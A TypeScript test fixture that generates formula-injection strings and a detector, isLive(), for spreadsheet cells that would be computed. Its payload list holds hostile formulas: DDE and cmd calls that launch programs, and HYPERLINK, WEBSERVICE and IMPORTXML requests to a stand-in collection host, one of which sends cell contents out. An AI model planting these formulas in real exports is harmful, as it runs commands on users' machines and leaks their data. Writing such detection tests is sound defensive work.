const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']

const payloads = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://collect.example/?x="&A1,"Click")',
  'WEBSERVICE("https://collect.example")',
  'IMPORTXML("https://collect.example","//a")',
  'DDE("cmd";"/C calc";"!A0")',
  '-2+3',
]

/** What may stand before a sign without taking its meaning. */
const leads = ['', ' ', '\t', '\n', '\u00a0', '\u3000', '\u200b', '\ufeff', "'", "''"]

/** How a cell can be left, so that the sign begins another. */
const waysOut = ['', 'a;', 'a,', 'a\n', 'a\t', 'a"', '";', '",', '"\n', 'a\r\n', '";"', 'a|']

/** Every sign once with each lead, each way out and each formula; what begins with a phone number among them. */
export const liveStrings: readonly string[] = [
  ...signs.flatMap((sign) => leads.map((lead) => `${lead}${sign}${payloads[0]}`)),
  ...signs.flatMap((sign) => payloads.map((payload) => sign + payload)),
  ...waysOut.flatMap((wayOut) => signs.map((sign) => `${wayOut}${sign}1+1`)),
  '+1-202-555-0100',
  '+(1)/2',
  '\tplain',
  '=',
]

/** Whether a spreadsheet would compute a cell. Only a number stays one: a plus sign, digits and blanks. */
export function isLive(cell: string): boolean {
  const text = cell.replace(/^[\s\p{Cf}]+/u, '')
  return /^[=+\-@＝＋－＠]/u.test(text) && !/^\+\d[\d ]*$/.test(text)
}
